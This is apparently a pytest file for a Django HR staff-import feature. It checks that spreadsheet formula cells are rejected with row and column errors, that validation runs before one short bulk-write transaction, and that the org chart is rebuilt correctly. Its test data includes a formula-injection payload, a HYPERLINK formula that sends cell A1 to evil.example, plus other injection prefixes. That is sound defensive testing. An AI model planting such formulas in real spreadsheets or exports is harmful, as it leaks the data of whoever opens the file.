"""#9 items 8 and 9 for the HR import: formulas are errors with their row and column; validation holds no
write lock and the writes are a few bulk statements in one short transaction, with the org chart right."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from people import importing as imp
from people.models import OrgPath, StaffProfile
from people.services import org_rebuild
from tests.people.test_import import AMY, BOSS, EN, csv_file, issues, org, row_with, run, xlsx_file  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'


def quoted_csv(*rows: list[str]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([EN, *rows])
    return buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize("value", [EVIL, "+85212345678", "-1", "@SUM(A1)", "\t=1+1", "  =1+1"])
def test_a_formula_in_a_cell_is_an_error_naming_row_and_column(org, value):
    found = issues(quoted_csv(BOSS, row_with(AMY, supervisor_employee_number=value)))
    assert [(i.line, i.column) for i in found] == [(3, "supervisor_employee_number")]
    assert "公式" in found[0].message
    assert StaffProfile.objects.count() == 0


def test_a_formula_in_a_name_is_refused_not_imported(org):
    [issue] = issues(quoted_csv(row_with(BOSS, name=EVIL)))
    assert (issue.line, issue.column) == (2, "name")
    assert str(imp.ERR_REQUIRED) not in issue.message


def test_an_xlsx_formula_cell_is_an_error_not_an_empty_supervisor(org):
    """openpyxl (like any program) writes formula cells without a cached result: read as values they are
    empty, which used to mean "no supervisor" and silently detached the person."""
    content = xlsx_file(BOSS, row_with(AMY, supervisor_employee_number='=IF(TRUE,"E001","")'))
    [issue] = issues(content, "staff.xlsx")
    assert (issue.line, issue.column) == (3, "supervisor_employee_number")
    assert "公式" in issue.message


def people(n: int, *, start: int = 1) -> list[list[str]]:
    """A tree three levels deep, every supervisor listed after some of their reports."""
    rows = []
    for i in range(start, start + n):
        supervisor = "" if i == 1 else f"E{(i // 3) or 1:04d}" if i > 3 else "E0001"
        rows.append([f"E{i:04d}", f"員工{i}", f"e{i:04d}@bank.example", "D01", "P01", supervisor, "2022-02-01", "1"])
    return list(reversed(rows))


def test_validation_reads_before_the_write_transaction_which_is_a_few_statements(org):
    with CaptureQueriesContext(connection) as small:
        run(csv_file(*people(30)))
    with CaptureQueriesContext(connection) as large:
        run(csv_file(*people(300, start=31)))

    def inside(queries) -> list[str]:
        sql = [q["sql"] for q in queries.captured_queries]
        begin = next(i for i, s in enumerate(sql) if s.startswith("SAVEPOINT"))
        assert not [s for s in sql[:begin] if s.lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))]
        return sql[begin:]

    # The transaction does not grow with the file: bulk statements, not a save per person.
    assert len(inside(large)) <= len(inside(small)) + 12 < 40


def test_bulk_writes_build_the_same_org_chart_as_saving_one_by_one(org):
    run(csv_file(*people(40)))
    # Move a subtree, deactivate a leaf, rename someone, add people under new and old supervisors.
    rows = people(40)
    changed = []
    for row in rows:
        if row[0] == "E0004":
            row = row_with(row, supervisor_employee_number="E0002")
        if row[0] == "E0039":
            row = row_with(row, active="0")
        if row[0] == "E0010":
            row = row_with(row, name="改名者")
        changed.append(row)
    changed += [
        ["E0100", "新主管", "e0100@bank.example", "D02", "P02", "E0003", "2024-01-01", "1"],
        ["E0101", "新同事", "e0101@bank.example", "D01", "P01", "E0100", "2024-01-01", "1"],
    ]
    result = run(csv_file(*reversed(changed)))
    assert (result.created, result.deactivated) == (2, 1)
    assert StaffProfile.objects.get(employee_number="E0010").display_name == "改名者"
    assert StaffProfile.objects.get(employee_number="E0039").user.is_active is False
    closure = set(OrgPath.objects.values_list("ancestor_id", "descendant_id", "depth"))
    org_rebuild()
    assert closure == set(OrgPath.objects.values_list("ancestor_id", "descendant_id", "depth"))
    assert run(csv_file(*reversed(changed))).changed_rows == []  # idempotent
